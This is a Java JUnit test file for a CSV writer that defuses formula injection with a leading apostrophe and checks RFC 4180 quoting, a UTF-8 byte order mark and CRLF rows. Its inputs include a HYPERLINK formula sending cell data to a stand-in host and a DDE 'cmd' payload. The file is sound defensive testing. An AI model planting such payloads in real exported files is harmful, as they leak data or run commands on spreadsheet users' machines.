package dev.mamori.platform.text;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;

class CsvTest {

    @Test
    void formulasAreDefusedWithALeadingApostrophe() {
        assertEquals(
                "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"",
                Csv.cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"));
        assertEquals("'=1+1", Csv.cell("=1+1"));
        assertEquals("'+1+1", Csv.cell("+1+1"));
        assertEquals("'-1+1", Csv.cell("-1+1"));
        assertEquals("'@SUM(A1:A9)", Csv.cell("@SUM(A1:A9)"));
        // TAB and CR also start a formula in some spreadsheets; a CR also forces quoting.
        assertEquals("'\t=1+1", Csv.cell("\t=1+1"));
        assertEquals("\"'\r=1+1\"", Csv.cell("\r=1+1"));
    }

    @Test
    void onlyTheFirstCharacterMatters() {
        assertEquals("a=1+1", Csv.cell("a=1+1"));
        assertEquals("山田 -1", Csv.cell("山田 -1"));
        assertEquals("2026-04-01T10:00+09:00", Csv.cell("2026-04-01T10:00+09:00"));
        assertEquals("'-5", Csv.cell(-5), "a negative number is defused too: every cell follows one rule");
    }

    @Test
    void commasQuotesAndLineBreaksAreQuotedAsRfc4180Says() {
        assertEquals("\"Tele, Inc.\"", Csv.cell("Tele, Inc."));
        assertEquals("\"say \"\"hi\"\"\"", Csv.cell("say \"hi\""));
        assertEquals("\"two\nlines\"", Csv.cell("two\nlines"));
        assertEquals("\"two\r\nlines\"", Csv.cell("two\r\nlines"));
        assertEquals("plain", Csv.cell("plain"));
        assertEquals("", Csv.cell(""));
        assertEquals("", Csv.cell(null));
        assertEquals("true", Csv.cell(true));
    }

    @Test
    void aFileIsUtf8WithAByteOrderMarkAHeaderAndCrlfRows() {
        Csv csv = Csv.withHeader("subject_ref", "名称", "note")
                .row("顧客-001", "問い合わせ記録", null)
                .row(List.of("a,b", "=cmd|' /C calc'!A0", "x"));
        assertEquals("\uFEFFsubject_ref,名称,note\r\n顧客-001,問い合わせ記録,\r\n\"a,b\",'=cmd|' /C calc'!A0,x\r\n", csv.text());
        assertEquals(2, csv.rows());
        byte[] bytes = csv.bytes();
        assertArrayEquals(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, Arrays.copyOf(bytes, 3));
        assertEquals(csv.text(), new String(bytes, StandardCharsets.UTF_8));
        assertTrue(Csv.MEDIA_TYPE.startsWith("text/csv"));
    }

    @Test
    void aRowMustHaveAsManyCellsAsTheHeader() {
        Csv csv = Csv.withHeader("a", "b");
        assertThrows(IllegalArgumentException.class, () -> csv.row("only one"));
        assertThrows(IllegalArgumentException.class, () -> csv.row("1", "2", "3"));
        assertThrows(IllegalArgumentException.class, () -> Csv.withHeader(List.of()));
    }

    @Test
    void aHeaderIsDefusedAndQuotedLikeAnyRow() {
        assertEquals(
                "\uFEFF'=title,\"a,b\"\r\n", Csv.withHeader("=title", "a,b").text());
    }
}
